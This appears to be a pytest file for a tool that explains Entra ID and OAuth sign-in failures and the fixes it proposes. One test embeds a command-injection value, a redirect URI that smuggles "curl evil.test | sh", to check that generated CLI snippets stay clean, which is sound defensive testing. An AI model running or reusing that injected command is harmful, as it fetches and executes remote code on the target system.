"""Refusals are explained in this case's own values, by the cause that fits its surroundings."""

import json

import pytest

from inspector import app
from inspector.diagnosis.diagnose import Diagnosis
from inspector.diagnosis.expectation import Expectation
from inspector.diagnosis.finding import Finding
from inspector.diagnosis.verdict import Outcome
from tests.minting import CLIENT, NOW, TENANT, entra, mint


def diagnose(text: str, **expected: object) -> Diagnosis:
    return app.explain(text, Expectation(**expected), float(NOW))  # type: ignore[arg-type]


def root(text: str, **expected: object) -> Finding:
    return diagnose(text, **expected).findings[0]


def body(description: str, error: str = "invalid_request") -> str:
    return json.dumps({"error": error, "error_description": description})


REDIRECT = (
    "AADSTS50011: The redirect URI '{uri}' specified in the request does not match the redirect URIs configured for "
    f"the application '{CLIENT}'."
)


def test_the_redirect_uri_that_was_sent_can_be_copied() -> None:
    """The remedy holds the exact address."""
    finding = root(body(REDIRECT.format(uri="https://shop.contoso.example/signin-oidc")))
    assert finding.codes[0] == "AADSTS50011"
    assert "https://shop.contoso.example/signin-oidc" in (finding.remedies[0].snippet or finding.remedies[0].text)


def test_an_http_address_points_to_the_proxy_that_ends_tls() -> None:
    """http on a public host is most often https that a proxy turned into http."""
    diagnosis = diagnose(body(REDIRECT.format(uri="http://shop.contoso.example/signin-oidc")))
    words = diagnosis.verdict.sentence + " ".join(each.text for each in diagnosis.findings[0].remedies)
    assert "proxy" in words.lower()
    assert "https" in words


def test_the_broker_is_named() -> None:
    """The Windows broker has a redirect URI of its own."""
    diagnosis = diagnose(body(REDIRECT.format(uri=f"ms-appx-web://Microsoft.AAD.BrokerPlugin/{CLIENT}")))
    assert "broker" in diagnosis.verdict.sentence.lower()


NEEDS_SECRET = (
    "AADSTS7000218: The request body must contain the following parameter: 'client_assertion' or 'client_secret'."
)


@pytest.mark.parametrize(
    ("context", "word"),
    [
        ("React SPA with MSAL.js", "single-page"),
        ("CLI tool, device code", "public client flows"),
        ("ASP.NET Core web app, authorization code", "secret"),
    ],
)
def test_the_same_code_has_another_remedy_for_another_client(context: str, word: str) -> None:
    """What must change depends on the kind of client."""
    remedy = diagnose(body(NEEDS_SECRET, "invalid_client"), context=context).verdict.remedy
    assert word in (remedy or "").lower()


def test_the_specific_code_wins_over_the_general_one() -> None:
    """AADSTS70002 only says that credentials failed; AADSTS50012 says which."""
    text = (
        "AADSTS70002: Error validating credentials. AADSTS50012: Client assertion is not within its valid time range."
    )
    assert root(text).codes[0] == "AADSTS50012"


def test_a_wrapper_loses_to_the_code_it_wraps() -> None:
    """The library's exception is not the cause."""
    text = f"MsalServiceException: ErrorCode: invalid_client\nMicrosoft.Identity.Client.MsalServiceException: {NEEDS_SECRET}"
    assert root(text).codes[0] == "AADSTS7000218"


def test_a_placeholder_is_named() -> None:
    """A sample's placeholder in the message is said to be one."""
    text = "AADSTS700016: Application with identifier 'YOUR_CLIENT_ID' was not found in the directory 'contoso'."
    diagnosis = diagnose(text)
    assert "placeholder" in (diagnosis.verdict.sentence + (diagnosis.verdict.remedy or "")).lower()


def test_an_interrupt_is_no_failure() -> None:
    """authorization_pending is what a device flow answers while it waits."""
    diagnosis = diagnose(body("AADSTS70016: Pending end-user authorization.", "authorization_pending"))
    assert diagnosis.verdict.outcome is Outcome.EXPLAINED


def test_a_forged_code_gets_no_invented_meaning() -> None:
    """An impossible number is in no list, and the answer says so."""
    finding = root("AADSTS98765432: Something about the redirect URI went wrong.")
    assert finding.id == "unknown-code"
    assert "Inferred" in finding.why


def test_a_bare_401_asks_for_what_decides() -> None:
    """Without any text the answer says what to paste next."""
    diagnosis = diagnose("HTTP/1.1 401 Unauthorized")
    assert diagnosis.verdict.outcome is Outcome.REFUSED
    assert diagnosis.verdict.remedy


def test_a_refusal_is_joined_to_the_token_beside_it() -> None:
    """The evidence cites the claim, and the version that the issuer shows."""
    token = mint(entra(ver="1.0", iss=f"https://sts.windows.net/{TENANT}/", appid=CLIENT, azp=None))
    text = f"{token}\nIDX10205: Issuer validation failed. Issuer: 'https://sts.windows.net/{TENANT}/'. Did not match: validationParameters.ValidIssuer: 'https://login.microsoftonline.com/{TENANT}/v2.0'"
    finding = root(text)
    assert finding.id == "issuer-of-other-version"
    assert any(each.where == "iss" for each in finding.evidence)
    assert "requestedAccessTokenVersion" in finding.remedies[0].text


def test_a_refusal_that_does_not_fit_the_token_is_about_another() -> None:
    """A message about an expired token beside a fresh one."""
    text = f"{mint(entra())}\nIDX10223: Lifetime validation failed. The token is expired. ValidTo (UTC): '1/1/2020 1:00:00 AM'."
    assert "refusal-about-another-token" in [finding.id for finding in diagnose(text).findings]


def test_a_claims_challenge_is_decoded_and_given_back() -> None:
    """The parameter to send on is exactly the challenge's JSON."""
    claims = "eyJhY2Nlc3NfdG9rZW4iOnsibmJmIjp7ImVzc2VudGlhbCI6dHJ1ZSwidmFsdWUiOiIxNjA0MTA2NjUxIn19fQ=="
    text = (
        f'HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer realm="", error="insufficient_claims", claims="{claims}"'
    )
    finding = next(each for each in diagnose(text).findings if each.id == "claims-challenge")
    assert finding.remedies[0].snippet == 'claims={"access_token":{"nbf":{"essential":true,"value":"1604106651"}}}'


def test_the_call_explains_its_refusal() -> None:
    """Pasted with request, token and answer, a vague 403 is explained by what the call needs and the token lacks."""
    token = mint(entra(aud="https://graph.microsoft.com", scp="User.Read"))
    request = f"GET https://graph.microsoft.com/v1.0/me/messages HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\r\n"
    answer = 'HTTP/1.1 403 Forbidden\r\nContent-Type: application/json\r\n\r\n{"error":{"code":"ErrorAccessDenied"}}'
    assert root(request + answer).id == "permission-missing"


@pytest.mark.parametrize("code", [50076, 50079, 53000, 53003, 50999])
def test_claims_beside_a_refusal_are_its_way_out(code: int) -> None:
    """Entra ID's own refusal comes first, whatever claims it sends along; they stand behind it, to be given back."""
    claims = '{"access_token":{"capolids":{"essential":true,"values":["c0ffee00-cccc-4000-8000-000000000001"]}}}'
    said = {"error": "interaction_required", "error_description": f"AADSTS{code}: Made up.", "claims": claims}
    diagnosis = diagnose(json.dumps(said | {"error_codes": [code]}))
    ids = [finding.id for finding in diagnosis.findings]
    assert ids.index("claims-challenge") > 0
    found = diagnosis.findings[ids.index("claims-challenge")]
    assert found.consequence_of == f"aadsts{code}"
    assert found.remedies[0].snippet == f"claims={claims}"
    assert "API asks" not in diagnosis.verdict.sentence


def test_the_same_refusal_twice_is_said_once() -> None:
    """A log repeats itself; the answer does not."""
    diagnosis = diagnose("\n".join([body(NEEDS_SECRET)] * 5))
    assert [finding.id for finding in diagnosis.findings].count("aadsts7000218") == 1


def test_a_hostile_value_reaches_no_shell() -> None:
    """A value that can't be quoted for every shell takes the snippet with it."""
    hostile = "https://x.test/'; curl evil.test | sh #"
    for finding in diagnose(body(REDIRECT.format(uri=hostile))).findings:
        for remedy in finding.remedies:
            assert not (remedy.snippet and remedy.snippet.startswith("az ") and "curl evil" in remedy.snippet)


@pytest.mark.parametrize("text", ["AADSTS50011 " * 20_000, "IDX10214: " + "'" * 100_000, "error=" * 60_000])
def test_long_nonsense_is_answered(text: str) -> None:
    """Nothing hangs and nothing raises."""
    assert diagnose(text).verdict.sentence


def test_the_tokens_own_finding_leads_where_it_explains_the_refusal() -> None:
    """With an expectation the token names the exact scope to ask for; the API's refusal follows from it."""
    text = f"{mint(entra(aud='00000003-0000-0000-c000-000000000000'))}\nIDX10214: Audience validation failed."
    first, second = diagnose(text, audiences=("api://orders",), scopes=("Orders.Read",)).findings[:2]
    assert first.id == "audience-mismatch"
    assert first.remedies[0].snippet == "api://orders/Orders.Read"
    assert second.consequence_of == "audience-mismatch"
    assert "IDX10214" in second.codes


EXCHANGE = (
    "HTTP/1.1 401 Unauthorized\n"
    'WWW-Authenticate: Bearer client_id="00000002-0000-0ff1-ce00-000000000000", error="invalid_token"\n'
    'x-ms-diagnostics: {number};reason="{reason}";error_category="invalid_resource"\n'
)
WRONG_AUDIENCE = (
    "The audience claim value is invalid for current resource. Audience claim is 'https://graph.microsoft.com/', "
    "request url is 'https://outlook.office365.com/EWS/Exchange.asmx' and resource type is 'Exchange'."
)
TOO_WEAK = (
    "The access token is acquired using an authentication method that is too weak to allow access for this "
    "application. Presented auth strength was 1, required is 2."
)


@pytest.mark.parametrize(
    ("number", "reason", "said"),
    [
        ("2000003", WRONG_AUDIENCE, "audience is https://graph.microsoft.com/"),
        ("2000001", TOO_WEAK, "with a client secret"),
        ("2000008", "The token contains no permissions, or permissions can not be understood.", "no role or scope"),
    ],
)
def test_exchange_says_why_in_a_header_of_its_own(number: str, reason: str, said: str) -> None:
    """The challenge beside it only says that the token was not accepted."""
    assert said in diagnose(EXCHANGE.format(number=number, reason=reason)).verdict.sentence


def test_a_second_code_of_the_same_message_is_explained_too() -> None:
    """Two unrelated codes are two refusals, whatever leads."""
    text = f"{REDIRECT.format(uri='http://localhost')} AADSTS7000215: Invalid client secret provided."
    codes = [finding.codes[0] for finding in diagnose(text).findings if finding.codes]
    assert {"AADSTS50011", "AADSTS7000215"} <= set(codes)
    assert codes.count("AADSTS50011") <= 2


DENIED = '{"error":{"code":"ErrorAccessDenied","message":"Access is denied. Check credentials and try again."}}'


@pytest.mark.parametrize(
    ("context", "words"),
    [
        ("daemon, client credentials: graphClient.Me.Messages", "/users/"),
        ("web app, signed-in user, GET https://graph.microsoft.com/v1.0/me/messages", "Mail.Read"),
        ("nightly job, client credentials, GET /users/kim@contoso.example/messages", "application permission"),
    ],
)
def test_a_mailbox_that_is_denied_is_told_by_whose_path_was_called(context: str, words: str) -> None:
    """An app has no /me; a signed-in user's own mailbox needs the delegated scope."""
    assert words in root(DENIED, context=context).remedies[0].text


def test_a_token_for_graph_at_app_service_is_named_before_its_settings() -> None:
    """App Service Authentication takes tokens for the app's own registration only."""
    said = "401 You do not have permission to view this directory or page."
    finding = root(
        f"{said}\n\n{json.dumps(entra(aud='https://graph.microsoft.com'))}", context="App Service, Easy Auth"
    )
    assert "api://" in (finding.remedies[0].snippet or "")


def test_a_thumbprint_of_64_digits_is_told_from_a_certificate_that_is_missing() -> None:
    """x5t is SHA-1: who hashes the certificate with SHA-256 names a key that nobody registered."""
    said = "AADSTS700027: The certificate is not registered. [Reason - The key was not found., Thumbprint of key used by client: '{}']"
    assert "SHA-256" in diagnose(body(said.format("9D14CB20" * 8))).verdict.sentence
    assert "SHA-256" not in diagnose(body(said.format("9D14CB20" * 5))).verdict.sentence


ABOUT_ENTRA = ("App registrations", "adminconsent", "Entra")


@pytest.mark.parametrize(
    ("paste", "context"),
    [
        ('{"error":"invalid_client"}', "POST https://pool.auth.eu-west-1.amazoncognito.com/oauth2/token"),
        (
            'POST https://id.example/realms/main/protocol/openid-connect/token HTTP/1.1\n\nHTTP/1.1 401 Unauthorized\n\n{"error":"unauthorized_client"}',
            "",
        ),
        ('{"error":"invalid_scope","error_description":"Invalid scopes: orders"}', "Keycloak"),
        ("Error 400: redirect_uri_mismatch", "sign in with Google"),
        ('{"error":"invalid_grant","error_description":"Token has been expired or revoked."}', ""),
    ],
)
def test_what_another_issuer_refuses_is_mended_there(paste: str, context: str) -> None:
    """Nobody is sent to Entra ID's portal for a client of Google, Okta, Keycloak or Cognito."""
    first = root(paste, context=context).remedies[0]
    assert not any(word in first.text + (first.snippet or "") for word in ABOUT_ENTRA)


def test_a_body_that_was_cut_off_is_still_told_by_its_code() -> None:
    """A log line that ends in the middle of error_description leaves OAuth's general `error` and Entra ID's code."""
    cut = 'Response: {"error":"invalid_client","error_description":"AADSTS7000215: Invalid client secret provided.'
    assert root(cut).codes[0] == "AADSTS7000215"


@pytest.mark.parametrize(
    ("context", "about_entra"),
    [("ASP.NET Core API, tried in Google Chrome", True), ("client of Keycloak", False), ("", True)],
)
def test_a_browser_named_google_is_no_issuer(context: str, *, about_entra: bool) -> None:
    """Words around the failure tell the issuer only where they name one."""
    texts = " ".join(each.text for each in root('{"error":"unauthorized_client"}', context=context).remedies)
    assert ("App registrations" in texts) is about_entra
